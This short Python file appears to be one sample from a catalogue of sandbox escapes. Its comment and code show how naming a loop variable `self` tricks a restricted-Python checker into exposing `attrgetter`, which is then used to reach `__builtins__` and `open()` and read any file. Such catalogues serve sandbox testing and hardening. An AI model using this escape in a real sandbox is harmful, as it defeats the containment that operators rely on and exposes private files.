# family: files
# Escape: a for-loop variable named self holds an attrgetter; `self.__class__` is allowed purely because of the
# name, so fetch is the attrgetter class. It reads tool.__builtins__ (run-time name) and open() reads any file.
import operator


def tool(path: str) -> str:
    for self in [operator.attrgetter("real")]:
        fetch = self.__class__
    edge = "_" * 2
    table = fetch(edge + "builtins" + edge)(tool)
    with table["open"](path) as handle:
        return handle.read()
